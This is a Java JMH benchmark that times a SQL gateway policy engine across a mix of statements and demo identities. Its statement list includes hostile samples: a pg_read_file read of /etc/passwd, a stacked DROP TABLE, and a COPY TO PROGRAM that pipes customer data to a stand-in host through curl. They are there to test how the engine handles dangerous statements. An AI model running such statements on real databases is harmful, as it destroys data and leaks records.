package dev.sluice.policy.bench;

import dev.sluice.contracts.decision.Command;
import dev.sluice.contracts.decision.CommandType;
import dev.sluice.contracts.decision.ConnectionRef;
import dev.sluice.contracts.decision.Decision;
import dev.sluice.contracts.decision.DecisionRequest;
import dev.sluice.contracts.identity.Identity;
import dev.sluice.contracts.identity.IdentityKind;
import dev.sluice.policy.bundle.ActivePolicy;
import dev.sluice.policy.bundle.PolicyBundleLoader;
import dev.sluice.policy.decision.PolicyEngine;
import dev.sluice.sql.SqlStatement;
import dev.sluice.sql.StatementClassifier;
import dev.sluice.sql.StatementSplitter;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Param;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;

/**
 * {@link PolicyEngine#decide} over a statement mix like a gateway sees it (reads, writes, transaction control,
 * session settings, DDL, dangerous statements, stacked statements and a 4 KB reporting query), for each identity
 * of the demo, against the demo bundle or a bundle with masking, approvals, tags and time windows. Reported in
 * docs/benchmarks.md; run with {@code ./mvnw -B -pl policy-service -Pjmh verify -DskipTests}.
 */
@State(Scope.Benchmark)
@BenchmarkMode({Mode.AverageTime, Mode.SampleTime})
@OutputTimeUnit(TimeUnit.MICROSECONDS)
public class PolicyEngineBenchmark {

    static final List<String> STATEMENTS = List.of(
            "SELECT * FROM customers WHERE id = 42",
            "SELECT c.name, sum(o.total) FROM customers c JOIN orders o ON o.customer_id = c.id WHERE o.created_at > now() - interval '7 days' GROUP BY c.name ORDER BY 2 DESC LIMIT 10",
            "INSERT INTO orders (customer_id, total) VALUES (7, 19.99) RETURNING id",
            "UPDATE orders SET total = total * 1.1 WHERE id = 7",
            "DELETE FROM orders",
            "BEGIN",
            "COMMIT",
            "SET application_name = 'psql'",
            "SHOW search_path",
            "CREATE INDEX orders_customer ON orders (customer_id)",
            "DROP TABLE customers",
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT 1; DROP TABLE customers",
            "COPY (SELECT * FROM customers) TO PROGRAM 'curl -d @- http://x'",
            "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent",
            reportingQuery());

    static final List<Identity> IDENTITIES = List.of(
            new Identity("alice", List.of("dba"), IdentityKind.HUMAN),
            new Identity("bob", List.of("analysts"), IdentityKind.HUMAN),
            new Identity("carol", List.of("auditors", "approvers"), IdentityKind.HUMAN),
            new Identity("ci-bot", List.of("agents"), IdentityKind.SERVICE));

    @Param({"demo", "effects"})
    public String bundle;

    private PolicyEngine engine;
    private DecisionRequest[] requests;
    private int next;

    @Setup
    public void setUp() {
        String location = bundle.equals("demo") ? null : "classpath:policy-bundles/effects/";
        engine = new PolicyEngine(new ActivePolicy(PolicyBundleLoader.load(location)));
        List<DecisionRequest> all = new ArrayList<>();
        for (String sql : STATEMENTS) {
            for (Identity identity : IDENTITIES) {
                all.add(new DecisionRequest("bench", identity, new ConnectionRef("demo", "postgres", Map.of("env", "demo")),
                        new Command(CommandType.QUERY, sql, Map.of("message", "Query")), "127.0.0.1"));
            }
        }
        requests = all.toArray(DecisionRequest[]::new);
    }

    /** Only the SQL part of a decision (split and classify every statement), to tell it from rule evaluation. */
    @Benchmark
    public int splitAndClassify() {
        DecisionRequest request = requests[next];
        next = next + 1 == requests.length ? 0 : next + 1;
        int facts = 0;
        for (SqlStatement statement : StatementSplitter.splitLexed(request.command().text())) {
            facts += StatementClassifier.classify(statement.tokens()).functions().size();
        }
        return facts;
    }

    /** One decision of the mix, round robin. */
    @Benchmark
    public Decision decide() {
        DecisionRequest request = requests[next];
        next = next + 1 == requests.length ? 0 : next + 1;
        return engine.decide(request);
    }

    static String reportingQuery() {
        StringBuilder sql = new StringBuilder("SELECT c.id, c.name");
        for (int i = 0; sql.length() < 4000; i++) {
            sql.append(", sum(CASE WHEN o.status = 'status_").append(i).append("' THEN o.total ELSE 0 END) AS s").append(i);
        }
        return sql.append(" FROM customers c LEFT JOIN orders o ON o.customer_id = c.id WHERE c.region IN ('eu', 'us') GROUP BY c.id, c.name")
                .toString();
    }
}
